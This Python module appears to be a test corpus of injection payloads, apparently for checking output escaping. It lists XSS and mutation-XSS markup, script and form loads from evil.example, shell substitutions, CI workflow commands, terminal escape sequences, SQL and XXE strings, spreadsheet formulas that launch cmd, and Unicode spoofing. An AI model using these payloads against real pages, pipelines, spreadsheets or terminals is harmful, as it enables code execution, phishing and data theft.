"""Texts that mean something to whoever shows them: a browser, a terminal, a runner of workflows, a reader of
Markdown, JSON, XML or CSV, a template engine, an eye. Each is a value that a document may hold."""

ALERT = "alert(1)"

ELEMENTS = [
    f"<script>{ALERT}</script>", f"<SCRIPT>{ALERT}</SCRIPT>", f"<script\n>{ALERT}</script\n>", f"<script/x>{ALERT}</script>",
    "<script src=//evil.example/x.js></script>", "<script src=data:,alert(1)></script>", f"</script><script>{ALERT}</script>",
    f"<scr<script>ipt>{ALERT}</scr</script>ipt>", f"<script>{ALERT}//", f"<<script>{ALERT}//<</script>",
    f"<img src=x onerror={ALERT}>", f"<img/src=x/onerror={ALERT}>", f"<IMG SRC=x OnErRoR={ALERT}>", f"<img src=`x`onerror={ALERT}>",
    f"<img src=x onerror={ALERT}//", f"<body onload={ALERT}>", f"<body onpageshow={ALERT}>", f"<input autofocus onfocus={ALERT}>",
    f"<select autofocus onfocus={ALERT}><option>", f"<textarea autofocus onfocus={ALERT}>", f"<details open ontoggle={ALERT}><summary>x",
    f"<video><source onerror={ALERT}></video>", f"<audio src=x onerror={ALERT}>", f"<marquee onstart={ALERT}>x</marquee>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<applet code=x></applet>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil.example/>",
    "<style>*{display:none}</style>", "<style>@import '//evil.example/x.css';</style>", "<div style='background:url(//evil.example/)'>x</div>",
    "<form action=//evil.example><button>x</button></form>", "<button form=x formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<frameset onload=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>", "<plaintext>", "<!--", "-->", "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>", "<![CDATA[><img src=x onerror=alert(1)>]]>", "<?php echo 1 ?>", "<?xml-stylesheet href='x'?>",
    "<!DOCTYPE html>", "</title>", "</main></body></html>", "</td></tr></table>", "<table><tr><td>", "<x-probe>", "<a href=x id=main>x</a>",
    "<form id=main><input name=attributes>", "<slot name=x>", "<dialog open>x</dialog>", "<popover>", "<portal src=//evil.example>",
]

ATTRIBUTES = [
    f"\" onmouseover=\"{ALERT}", f"' onmouseover='{ALERT}", f"` onmouseover={ALERT}", f"\"><script>{ALERT}</script>",
    f"'><img src=x onerror={ALERT}>", f"\" autofocus onfocus={ALERT} x=\"", "\" style=\"position:fixed;inset:0", "\" href=\"javascript:alert(1)",
    "\\\" onload=\\\"alert(1)", "&quot; onload=&quot;alert(1)", "&#34; onload=&#34;alert(1)", "&#x22;&#x3e;&#x3cscript&#x3e;",
    "\"/><base href=\"//evil.example", "\" srcset=\"//evil.example/x", "\" data-base=\"{}", "\" id=\"main", "x\ty\"z", "\"\n>\n<b>\n",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;b&amp;gt;", "&#60;b&#62;", "&", "&&lt;", "&nosuch;", "<", ">", "'", "\"", "a=b>c",
]

SCHEMES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)",
    "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#x6A;avascript:alert(1)", "javascript&#58;alert(1)", "javascript%3Aalert(1)",
    "javascript://%0aalert(1)", "vbscript:msgbox(1)", "livescript:x", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "data:,x", "//evil.example/",
    "\\\\evil.example\\x", "/\\evil.example", "http://evil.example/", "https://evil.example/\" onclick=\"alert(1)",
    "mailto:x@evil.example?subject=<b>", "file:///etc/passwd", "view-source:x", "blob:x", "filesystem:x", "jar:x!/y", "about:blank",
    "ws://evil.example", "ftp://evil.example", "tel:+1", "feed:javascript:alert(1)", "x-evil://x", "?x=1#y", "#main", "../../../etc/passwd",
    "..\\..\\x", "%2e%2e%2fx", "C:\\x", "CON", "nul.txt", "http:evil.example", "https:///evil.example", "\u202ejavascript:alert(1)",
    "java\u00adscript:alert(1)", "\ufeffjavascript:alert(1)", "javascript\uff1aalert(1)",
]

SVG = [
    f"<svg onload={ALERT}>", f"<svg/onload={ALERT}>", f"<svg><script>{ALERT}</script></svg>", "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>", "<svg><use href=data:image/svg+xml,x#y>",
    f"<svg><animate onbegin={ALERT} attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)>", "<svg><style><img src=x onerror=alert(1)></style>", "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]>", "<svg><image href=x onerror=alert(1)>", "<svg><title><style></title><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x", "<math><annotation-xml encoding=text/html><script>alert(1)</script>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
]

TEMPLATES = [
    "{{title}}", "{{{title}}}", "{{&title}}", "{{> head}}", "{{#keys}}x{{/keys}}", "{{^x}}y{{/x}}", "{{=<% %>=}}", "<%title%>", "{{!x}}", "{{",
    "}}", "{{/main}}", "{{.}}", "${title}", "#{title}", "<%= 7*7 %>", "{% include x %}", "{{7*7}}", "{{constructor.constructor('alert(1)')()}}",
    "%s%n%x", "{0}", "{:>1000000}", "$(id)", "`id`", "; id", "| id", "&& id", "%{x}", "!!python/object:x", "\\u003cscript\\u003e", "\\x3cscript\\x3e",
]

MARKDOWN = [
    "[x](javascript:alert(1))", "[x](//evil.example)", "![x](//evil.example/x.png)", "![x](data:image/svg+xml,x)", "[x]: javascript:alert(1)",
    "<javascript:alert(1)>", "<https://evil.example>", "https://evil.example/x", "www.evil.example", "x@evil.example", "@everyone", "@octocat",
    "#1", "octo/repo#1", "GH-1", "deadbeefdeadbeefdeadbeefdeadbeefdeadbeef", "# heading", "## heading", "> quote", "- item", "* item", "1. item", "1) item",
    "- [x] done", "```", "~~~", "`code`", "``a`b``", "**b**", "__b__", "*e*", "_e_", "~~s~~", "| a | b |", "a|b", "\\|", "|---|", "---", "***", "===", "[^1]",
    "[^1]: note", "<details><summary>x</summary>", "</details>", "</code></pre>", ":smile:", "$x$", "$$x$$", "\\(x\\)", "<br>", "x  \ny", "x\\\ny",
    "&nbsp;", "&#42;x&#42;", "<!-- x -->", "{% raw %}", "\t    code", "[link][ref]", "![][ref]", "==mark==", "H~2~O", "x^2^",
]

TERMINAL = [
    "\x1b[31mred\x1b[0m", "\x1b[2J", "\x1b[H", "\x1b[1A\x1b[2K", "\x1bc", "\x1b]0;title\x07", "\x1b]2;title\x1b\\", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07", "\x1b]1337;File=:x\x07", "\x1b]4;1;?\x07", "\x1bP$q\"p\x1b\\", "\x1b_x\x1b\\", "\x1b^x\x1b\\", "\x1b[6n", "\x1b[c", "\x1b[?1049h",
    "\x1b[8m", "\x1b(0", "\x1b%G", "\x9b31m", "\x9d0;x\x9c", "\x90x\x9c", "\x84\x85\x8d", "\x07", "\x08\x08\x08ok", "\rok", "x\r\ny", "\x0b", "\x0c",
    "\x0e\x0f", "\x7f", "\x05", "\x11\x13", "\x18\x1a", "a\tb", "a\nb", "\n\nok", "\x1b", "\\x1b[31m", "\\033[31m", "^[[31m",
]

COMMANDS = [
    "::error::owned", "::error file=x,line=1::owned", "::warning::x", "::notice::x", "::add-mask::secret", "::stop-commands::x", "::set-output name=x::y",
    "::set-env name=PATH::x", "::save-state name=x::y", "::group::x", "::endgroup::", "::debug::x", "::echo::on", "::add-matcher::x.json", "  ::error::indented",
    "\t::error::tab", "\u00a0::error::no-break", "\u3000::error::wide", "\u2003::error::em", "x\n::error::next line", "x\r::error::return", "x\u2028::error::separator",
    "x\x85::error::next", "##[error]owned", "##[group]x", "##[add-mask]secret", "##[set-env name=x]y", "x ##[error]later", "###[error]three", "%0A::error::x", "%0D%0A::error::x",
    "::error::%0A::error::y", "::::", "::", "##vso[task.complete result=Failed;]x", "##teamcity[buildStatus text='x']", "section_start:0:x", "\x1b[0Ksection_start:0:x\r",
]

DATA = [
    "\"", "\\", "\\\"", "\\u0000", "\\ud800", "\u2028", "\u2029", "\ufffe", "\uffff", "\U0001fffe", "]]>", "<![CDATA[x]]>", "<?xml version='1.0'?>", "&lol;",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "&#0;", "&#xFFFE;", "\",\"level\":\"none", "\"},{\"x\":\"", "null", "true", "NaN", "1e999", "-0", "__proto__", "constructor",
    "toString", "hasOwnProperty", "/**/", "//", "*/", "<!--<script>", "</script", "</SCRIPT >", "{\"a\":1}", "[1]", "'; DROP TABLE x; --", "' OR '1'='1", "*)(uid=*",
    "file:///x", "%SRCROOT%", "%zz", "+", "a b", "x" * 300, "\u00e9" * 90, "\U0001f469\u200d\U0001f4bb",
]

FORMULAS = [
    "=1+1", "=cmd|'/c calc'!A1", "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(\"http://evil.example\",\"//a\")", "=WEBSERVICE(\"http://evil.example\")",
    "+1+cmd|' /c calc'!A1", "-1+cmd|' /c calc'!A1", "@SUM(1+1)*cmd|' /c calc'!A1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\"=1+1", ",=1+1", ";=1+1", "x\",=1+1,\"", "\uff1d1+1",
    "=DDE(\"cmd\";\"/c calc\";\"x\")",
]

UNICODE = [
    "\u202edekcab\u202c", "\u202dx\u202c", "\u202ax\u202c", "\u202bx", "\u2066x\u2069", "\u2067x", "\u2068x\u2069", "\u200ex", "\u200fx", "\u061cx", "a\u200bb", "a\u200cb", "a\u200db", "a\u2060b",
    "\ufeffx", "a\u00adb", "a\u034fb", "\u115fx", "\u3164x", "\uffa0x", "\u180ex", "\u2800x", "\U000e0041\U000e007f", "\U000f0000x", "\ue000x", "\ufff9a\ufffab\ufffb", "p\u0430ypal", "\u0405cope",
    "\u217axii", "\uff41\uff42", "e\u0301", "\u00e9", "\u212b", "\ufb01", "\u1e9b\u0323", "I\u0307", "\u0131", "\u00df", "\u1e9e", "x" + "\u0301" * 60, "\u0e33\u0e33", "\u4e00\u2f00", "\u05d0\u05d1", "\u0627\u0644",
    "\ufdfd", "\U0001d400", "\U0001f1e9\U0001f1ea", "\u2044", "\u2215x", "\uff0fx", "\u29f8x", "\uff1cscript\uff1e", "\u2039b\u203a", "\u02bcx", "\U0001d173x", "\U0001bca0x", "\ufe0fx", "\ufffdx", "\u00a0x\u00a0", "\u2007x",
]

CLASSES = {
    "elements": ELEMENTS, "attributes": ATTRIBUTES, "addresses": SCHEMES, "svg and math": SVG, "templates": TEMPLATES, "markdown": MARKDOWN,
    "terminal": TERMINAL, "commands": COMMANDS, "data": DATA, "formulas": FORMULAS, "unicode": UNICODE,
}


def all_vectors():
    """Each once, whichever classes it is in."""
    return list(dict.fromkeys(vector for vectors in CLASSES.values() for vector in vectors))
